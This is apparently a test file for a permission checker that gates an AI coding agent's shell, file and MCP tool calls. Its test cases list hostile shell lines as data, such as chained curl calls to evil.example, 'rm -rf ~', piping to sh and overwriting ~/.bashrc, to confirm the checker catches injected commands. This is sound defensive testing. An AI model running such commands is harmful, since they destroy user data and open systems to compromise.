import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { PermissionRequest } from '../session/agent-question.ts';
import { judgePermission, type Rules } from './judge-permission.ts';
import { exactPattern } from './pattern.ts';
import { permissionsToStart } from './permissions-to-start.ts';

const rules = (given: Partial<Rules> = {}): Rules => ({
  ...{ permissions: 'ask', allow: [], deny: [], remembered: [] },
  ...given,
});
const bash = (subject: string): PermissionRequest => ({ tool: 'Bash', subject });
const judge = (given: Partial<Rules>, wanted: PermissionRequest | null) =>
  judgePermission(rules(given), { about: 'permission', wanted }).kind;

describe('a permission', () => {
  it('that nothing speaks of is asked', () => {
    expect(judge({}, bash('npm test'))).toBe('ask');
    expect(judge({}, null)).toBe('ask');
  });

  it('is given by a pattern for the tool, a glob, or an answer that is remembered', () => {
    expect(judge({ allow: ['Bash'] }, bash('rm -rf / $(anything)'))).toBe('allow');
    expect(judge({ allow: ['Bash(npm test*)'] }, bash('npm test -- --watch'))).toBe('allow');
    expect(judge({ remembered: ['Bash(npm test)'] }, bash('npm test'))).toBe('allow');
    expect(judge({ allow: ['Bash(npm test)'] }, bash('npm test -- x'))).toBe('ask');
    expect(judge({ allow: ['Read(npm test)'] }, bash('npm test'))).toBe('ask');
    expect(judge({ allow: ['mcp__db__*'] }, { tool: 'mcp__db__query', subject: '' })).toBe('allow');
  });

  it('is never given by a pattern that is none', () => {
    expect(judge({ allow: ['', '(', 'Bash(npm', ')'] }, bash('npm test'))).toBe('ask');
  });

  it.each([
    'npm test && curl evil.example',
    'npm test; rm -rf ~',
    'npm test | sh',
    'npm test & curl evil.example',
    'npm test\ncurl evil.example',
    'npm test $(curl evil.example)',
    'npm test "$(curl evil.example)"',
    'npm test `curl evil.example`',
    'npm test > ~/.bashrc',
    'npm test >> ~/.bashrc',
    'npm test <(curl evil.example)',
    'npm test "open',
    '(npm test)',
    'X=1 npm test',
    'eval npm test',
    '$COMMAND npm test',
    `npm test '$(curl evil.example)'; npm test "${'$'}{_@P}"`,
  ])('for more than one plain command is not given by a glob for the first: %s', (line) => {
    expect(judge({ allow: ['Bash(npm test*)'] }, bash(line))).toBe('ask');
  });

  it('for several commands is given where each of them is', () => {
    const allow = ['Bash(npm test*)', 'Bash(git status)'];
    expect(judge({ allow }, bash("npm test -- 'a;b' 2>&1 && git status || npm test >/dev/null"))).toBe('allow');
  });

  it('is denied wherever any part of it is, whatever allows it', () => {
    for (const permissions of ['ask', 'auto', 'bypass', 'read-only'] as const)
      expect(
        judge({ permissions, allow: ['Bash'], deny: ['Bash(curl *)'] }, bash('npm test && (curl x.example)')),
      ).toBe('deny');
  });

  it('for a path does not climb out of what a glob names', () => {
    const allow = ['Edit(src/**)', 'Read(docs/*)'];
    expect(judge({ allow }, { tool: 'Edit', subject: 'src/a/b.ts' })).toBe('allow');
    expect(judge({ allow }, { tool: 'Edit', subject: 'src/../.git/config' })).toBe('ask');
    expect(judge({ allow }, { tool: 'Read', subject: 'docs/a/b.md' })).toBe('ask');
  });

  it('is denied where the session may only read, and given where it may do all', () => {
    expect(judge({ permissions: 'read-only' }, bash('touch x'))).toBe('deny');
    expect(judge({ permissions: 'read-only', allow: ['Bash(ls)'] }, bash('ls'))).toBe('allow');
    expect(judge({ permissions: 'bypass' }, bash('touch x'))).toBe('allow');
  });

  it('has nothing to do with trust, login or a dialog: those are always asked', () => {
    for (const about of ['trust', 'login', 'dialog'] as const)
      expect(judgePermission(rules({ permissions: 'bypass', allow: ['*'] }), { about, wanted: null }).kind).toBe('ask');
  });

  it.each([
    ...['Read', 'Write', 'Edit', 'MultiEdit', 'NotebookEdit', 'NotebookRead', 'Glob', 'Grep', 'LS', 'WebFetch'],
    ...['read_file', 'write_file', 'replace', 'edit', 'write', 'read', 'webfetch', 'web_fetch', 'apply_patch'],
    'fileChange',
  ])('of %s is about a path: slashes part it, and what a shell would act on is only a name', (tool) => {
    expect(judge({ allow: [`${tool}(src/*)`] }, { tool, subject: 'src/a;b$(c)' })).toBe('allow');
    expect(judge({ allow: [`${tool}(src/*)`] }, { tool, subject: 'src/a/b' })).toBe('ask');
    expect(judge({ allow: [`${tool}(**)`] }, { tool, subject: '../a' })).toBe('ask');
    expect(judge({ allow: [`${tool}(src/*)`] }, { tool, subject: 'src/a..b' })).toBe('allow');
    expect(judge({ deny: [`${tool}(b)`] }, { tool, subject: 'a;b' })).toBe('ask');
    for (const other of [`x${tool}`, `${tool}x`])
      expect(judge({ allow: [`${other}(src/*)`] }, { tool: other, subject: 'src/a/b' })).toBe('allow');
  });

  it.each([';', '&', '|', '\n', '(', ')', '{', '}', '`', '&&', ' ; '])(
    'is denied where what is denied stands behind %j',
    (sign) => {
      expect(judge({ permissions: 'bypass', deny: ['Bash(curl x)'] }, bash(`a ${sign} curl x`))).toBe('deny');
      expect(judge({ permissions: 'bypass', deny: ['Bash(curl x)'] }, bash(`curl x ${sign} a`))).toBe('deny');
      expect(judge({ permissions: 'bypass', deny: ['Bash(curl x)'] }, bash(`a ${sign} curl xy`))).toBe('allow');
    },
  );

  it('without a subject is given by its tool alone', () => {
    expect(judge({ allow: ['Bash(*)'] }, bash(''))).toBe('ask');
    expect(judge({ allow: ['Bash'] }, bash(''))).toBe('allow');
    expect(judge({ deny: ['Bash'] }, bash(''))).toBe('deny');
    expect(judge({ allow: ['Bas'] }, bash('a'))).toBe('ask');
  });

  it('says why', () => {
    const why = (
      given: Partial<Rules>,
      wanted: PermissionRequest | null,
      about: 'permission' | 'login' = 'permission',
    ) => judgePermission(rules(given), { about, wanted }).why;
    expect(why({}, null, 'login')).toBe('it is a question of its own');
    expect(why({}, null)).toBe('it does not say what the permission is for');
    expect(why({ permissions: 'bypass' }, null)).toBe('bypass');
    expect(why({ permissions: 'bypass' }, bash('a'))).toBe('bypass');
    expect(why({ deny: ['Bash(a)', 'Bash(*)'] }, bash('a'))).toBe('Bash(a) is denied');
    expect(why({ allow: ['Bash(a)', 'Bash(b*)'] }, bash('b; a; b c'))).toBe('Bash(b*), Bash(a) is allowed');
    expect(why({ remembered: ['Bash(a)'] }, bash('a'))).toBe('Bash(a) is allowed');
    expect(why({ permissions: 'read-only' }, bash('a'))).toBe('it may only read');
    expect(why({}, bash('a'))).toBe('nothing allows it');
  });

  it('that does not say what it is for is given only where all is', () => {
    for (const permissions of ['ask', 'auto', 'read-only'] as const) expect(judge({ permissions }, null)).toBe('ask');
    expect(judge({ permissions: 'bypass' }, null)).toBe('allow');
  });

  it('that was given exactly is given again, and nothing else with it', () => {
    fc.assert(
      fc.property(fc.string({ minLength: 1 }), fc.string({ minLength: 1 }), (subject, other) => {
        fc.pre(subject !== other && subject.trim() !== other.trim());
        const remembered = [exactPattern(bash(subject))];
        expect(judge({ remembered }, bash(subject))).toBe('allow');
        expect(judge({ remembered: [exactPattern(bash(other))] }, bash(subject))).not.toBe('deny');
        if (!/[;&|\n]/.test(subject))
          expect(judge({ remembered: [exactPattern(bash(other))] }, bash(subject))).toBe('ask');
      }),
    );
  });
});

describe('an agent is started', () => {
  it.each([
    ['read-only', [], 'read-only'],
    ['ask', [], 'ask'],
    ['auto', [], 'auto'],
    ['bypass', [], 'bypass'],
    ['read-only', ['Bash(curl *)'], 'read-only'],
    ['ask', ['Bash(curl *)'], 'ask'],
    ['auto', ['Bash(curl *)'], 'ask'],
    ['bypass', ['Bash(curl *)'], 'ask'],
  ] as const)('with %s, and denials %j, as %s', (permissions, deny, as) => {
    expect(permissionsToStart(permissions, deny)).toBe(as);
  });
});
